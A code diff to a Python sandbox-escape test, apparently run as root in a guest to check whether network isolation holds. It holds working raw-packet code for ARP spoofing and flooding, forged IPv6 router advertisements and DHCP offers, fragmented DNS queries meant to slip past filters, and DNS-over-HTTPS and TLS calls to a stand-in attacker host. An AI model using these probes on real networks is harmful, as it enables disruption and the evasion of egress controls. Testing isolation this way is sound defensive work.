@@ -1,10 +1,13 @@
 """network.py PLACES: runs in the guest as root and tries to leave. PLACES is JSON: addresses and ports that must not be reached. Prints one JSON
-object: what each family of attempts saw. The judge is on the host: its canaries; what a guest calls "connected" is no proof of anything."""
+object: what each family of attempts saw. The judge is on the host: its canaries; what a guest calls "connected" is no proof of anything.
+
+The family `reach` is for a sandbox that may reach a name: it says what the tools of the other families reach there."""
 
 import errno
 import json
 import os
 import socket
+import ssl
 import struct
 import subprocess
 import sys
@@ -34,9 +37,35 @@ def tcp(address, port, say=b"CANARY-ESCAPE", family=socket.AF_INET, wait=2.0):
         return errno.errorcode.get(error.errno, type(error).__name__)
 
 
-def query(name, kind=1, server=GATEWAY, over_tcp=False, options=b""):
+def tls(address, port, say, name=None, wait=2.0):
+    """The same inside TLS, where any certificate will do; `name`: the one that the hello asks for."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    try:
+        with socket.create_connection((address, port), wait) as plain, context.wrap_socket(plain, server_hostname=name) as s:
+            s.sendall(say)
+            answer = s.recv(100)
+            return f"answer {answer!r}" if answer else "handshake, closed"
+    except OSError as error:
+        return type(error).__name__ if isinstance(error, ssl.SSLError) else errno.errorcode.get(error.errno, type(error).__name__)
+
+
+def doh(url, target, seconds=3):
+    """curl's exit status for a page whose host is looked up over HTTPS."""
+    return subprocess.run(["curl", "-s", "-m", str(seconds), "--doh-url", url, target], capture_output=True).returncode
+
+
+def question(name, kind=1, options=b""):
     labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin1").split(b".") if label) + b"\0"
-    message = os.urandom(2) + struct.pack(">5H", 256, 1, 0, 0, 1 if options else 0) + labels + struct.pack(">2H", kind, 1) + options
+    return os.urandom(2) + struct.pack(">5H", 256, 1, 0, 0, 1 if options else 0) + labels + struct.pack(">2H", kind, 1) + options
+
+
+def counts(answer):
+    return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}" if len(answer) >= 12 else "short"
+
+
+def query(name, kind=1, server=GATEWAY, over_tcp=False, options=b""):
+    message = question(name, kind, options)
     try:
         with socket.socket(socket.AF_INET, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as s:
             s.settimeout(1.5)
@@ -44,7 +73,7 @@ def query(name, kind=1, server=GATEWAY, over_tcp=False, options=b""):
             s.send(struct.pack(">H", len(message)) + message if over_tcp else message)
             answer = s.recv(4096)
             answer = answer[2:] if over_tcp else answer
-            return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}" if len(answer) >= 12 else "short"
+            return counts(answer)
     except OSError as error:
         return errno.errorcode.get(error.errno, type(error).__name__)
 
@@ -85,6 +114,17 @@ def udp(source, target, port, say=b"CANARY-ESCAPE"):
     return ip(source, target, 17, struct.pack(">HHHH", 40000, port, 8 + len(say), 0) + say)
 
 
+def echo(target, say=b"CANARY-ESCAPE!"):
+    """An echo request with the right checksum: one with another is thrown away by whoever gets it."""
+    def made(check):
+        return struct.pack(">BBHHH", 8, 0, check, 0x5ACE, 1) + say
+    return ip(GUEST, target, 1, made(0xFFFF & ~checksum(made(0))))
+
+
+def arp(sender_mac, sender, target, operation=2):
+    return b"\xff" * 6 + MINE + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_mac, socket.inet_aton(sender), b"\xff" * 6, socket.inet_aton(target))
+
+
 def syn(source, target, port, flags=2):
     segment = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, flags, 8192, 0, 0)
     pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(segment))
@@ -117,13 +157,16 @@ def a06():
 
 
 def a07():
-    quic = subprocess.run(["curl", "-sm3", "--doh-url", "https://1.1.1.1/dns-query", "https://evil.test/"], capture_output=True).returncode
-    return {"853": tcp("1.1.1.1", 853), "doh": quic, "udp 853": frames(udp(GUEST, "1.1.1.1", 853)), "udp 443": frames(udp(GUEST, "1.1.1.1", 443))}
+    dot = question("a.evil.test")
+    dot = struct.pack(">H", len(dot)) + dot
+    seen = side_by_side({"853": (tcp, "1.1.1.1", 853), "853 in TLS": (tls, "1.1.1.1", 853, dot), "doh": (doh, "https://1.1.1.1/dns-query", "https://evil.test/")})
+    if places["closed"]:  # a server that is there and would answer
+        seen["the attacker's server"] = tls(places["evil"], 443, b"GET /dns-query HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
+    return {**seen, "udp 853": frames(udp(GUEST, "1.1.1.1", 853)), "udp 443": frames(udp(GUEST, "1.1.1.1", 443))}
 
 
 def a09():
-    echo = bytes.fromhex("0800142400000000") + b"CANARY-ESCAPE!"
-    return {"frames": frames(*(ip(GUEST, address, 1, echo) for address in (places["host"], "1.1.1.1", "127.0.0.1", GATEWAY)))}
+    return {**side_by_side({address: (ping, address) for address in (places["host"], places["evil"], "1.1.1.1")}), "frames": frames(echo("127.0.0.1"), echo(GATEWAY))}
 
 
 def a10():
@@ -144,17 +187,19 @@ def a13():
 
 
 def a14():
-    def arp(sender_mac, sender, target, operation=2):
-        return b"\xff" * 6 + MINE + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_mac, socket.inet_aton(sender), b"\xff" * 6, socket.inet_aton(target))
     made = [arp(MINE, GATEWAY, GATEWAY), arp(b"\xff" * 6, GATEWAY, GUEST)] + [arp(os.urandom(6), f"10.{i % 200}.{i // 256 % 256}.{i % 256}", GATEWAY) for i in range(100000 if scale > 1 else 500)]
     return {"frames": frames(*made), "afterwards": tcp(GATEWAY, 22)}
 
 
 def a15():
     advert = bytes.fromhex("86000000400807080000000000000000") + bytes.fromhex("030440c0000070800000708000000000") + socket.inet_pton(socket.AF_INET6, "2001:db8::")
-    v6 = struct.pack(">IHBB", 6 << 28, len(advert), 58, 255) + socket.inet_pton(socket.AF_INET6, "fe80::5ace:2") + socket.inet_pton(socket.AF_INET6, "ff02::1")
+
+    def from_router(source):
+        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, "ff02::1")
+        check = 0xFFFF & ~checksum(ends + struct.pack(">II", len(advert), 58) + advert)
+        return bytes.fromhex("333300000001") + MINE + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, len(advert), 58, 255) + ends + advert[:2] + struct.pack(">H", check) + advert[4:]
     offer = b"\x02\x01\x06\x00" + bytes(240)
-    return {"frames": frames(bytes.fromhex("333300000001") + MINE + b"\x86\xdd" + v6 + advert, ip("10.0.0.2", "255.255.255.255", 17, struct.pack(">HHHH", 67, 68, 8 + len(offer), 0) + offer))}
+    return {"frames": frames(from_router("fe80::5ace:2"), from_router("fe80::5a:ceff:fe00:2"), ip("10.0.0.2", "255.255.255.255", 17, struct.pack(">HHHH", 67, 68, 8 + len(offer), 0) + offer))}
 
 
 def a17():
@@ -181,21 +226,64 @@ def a19():
     return seen
 
 
-def answered_by_hand():
-    """Whether a SYN that was put together here is answered: the frames of this program do leave the interface."""
-    with socket.socket(17, 3, socket.htons(0x0800)) as s:
-        s.bind((IFACE, 0x0800))
-        s.settimeout(2)
-        s.send(syn(GUEST, "198.18.0.9", 80))
-        until = time.monotonic() + 2
-        while time.monotonic() < until:
+def answer_to(made, matches, ethertype=0x0800, wait=2.0):
+    """Sends frames that were put together here: the first one that comes back and `matches`, None without one."""
+    with socket.socket(17, 3, socket.htons(ethertype)) as s:
+        s.bind((IFACE, ethertype))
+        for frame in made:
+            s.send(frame)
+        until = time.monotonic() + wait
+        while (left := until - time.monotonic()) > 0:
+            s.settimeout(left)
             try:
                 frame = s.recv(2048)
             except OSError:
-                return False
-            if len(frame) > 47 and frame[23] == 6 and frame[26:30] == socket.inet_aton("198.18.0.9") and frame[47] & 0x12 == 0x12:
-                return True
-    return False
+                return None
+            if matches(frame):
+                return frame
+    return None
+
+
+def comes_from(frame, protocol, source):
+    return len(frame) > 41 and frame[23] == protocol and frame[26:30] == socket.inet_aton(source)
+
+
+def accepted(frame, target):
+    """Whether a SYN, made here, is accepted: the frames of this program do leave the interface."""
+    return answer_to([frame], lambda got: comes_from(got, 6, target) and len(got) > 47 and got[47] & 0x12 == 0x12) is not None
+
+
+def ping(address):
+    got = answer_to([echo(address)], lambda got: comes_from(got, 1, address) and got[34] == 0)
+    return f"answer {got[42:]!r}" if got else "no answer"
+
+
+def resolved_by_hand(name, in_pieces=False):
+    """What the gateway answers to a question that was sent as a frame, or as two fragments of one."""
+    asked = question(name)
+    payload = udp(GUEST, GATEWAY, 53, asked)[34:]
+    made = [ip(GUEST, GATEWAY, 17, payload[:16], 0x2000, ident=53), ip(GUEST, GATEWAY, 17, payload[16:], 2, ident=53)] if in_pieces else [ip(GUEST, GATEWAY, 17, payload)]
+    got = answer_to(made, lambda got: comes_from(got, 17, GATEWAY) and got[34:36] == b"\0\x35" and got[42:44] == asked[:2])
+    return counts(got[42:]) if got else "no answer"
+
+
+def resolved_gateway():
+    """Whether the gateway's side answers an ARP request."""
+    return answer_to([arp(MINE, GUEST, GATEWAY, 1)], lambda got: len(got) > 41 and got[20:22] == b"\0\2" and got[28:32] == socket.inet_aton(GATEWAY), 0x0806) is not None
+
+
+def reach():
+    """`name` may be reached, on the ports of HTTP and HTTPS; its server notes the paths that it is asked for."""
+    name = places["name"]
+
+    def ask(path):
+        return f"GET /{path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode()
+    tools = {"tcp": (tcp, name, 80, ask("tcp"), socket.AF_INET, 8), "tcp6": (tcp, name, 80, ask("tcp6"), socket.AF_INET6, 8), "tls": (tls, name, 443, ask("tls"), name, 8),
+             "doh": (doh, f"https://{name}/doh", "https://elsewhere.test/", 12), "query": (query, name), "query over TCP": (query, name, 1, GATEWAY, True),
+             "query elsewhere": (query, name, 1, "8.8.8.8"), "query elsewhere over TCP": (query, name, 1, "8.8.8.8", True),
+             "syn": (accepted, syn(GUEST, "198.18.0.9", 80), "198.18.0.9"), "options": (accepted, options(bytes.fromhex("020405b4"), "198.18.0.10", 80), "198.18.0.10"),
+             "echo": (ping, GATEWAY), "udp": (resolved_by_hand, name), "fragments": (resolved_by_hand, name, True), "arp": (resolved_gateway,)}
+    return side_by_side({tool: tools[tool] for tool in places["tools"]})
 
 
 def options(segment_options, target, port, say=b""):
@@ -240,7 +328,7 @@ for name in wanted:
     except Exception as error:
         result[name] = {"error": repr(error)}
 try:
-    result["answered by hand"] = answered_by_hand()
+    result["answered by hand"] = {"syn": accepted(syn(GUEST, "198.18.0.9", 80), "198.18.0.9"), "echo": ping(GATEWAY)}
 except Exception as error:
     result["answered by hand"] = repr(error)
 server = socket.socket()
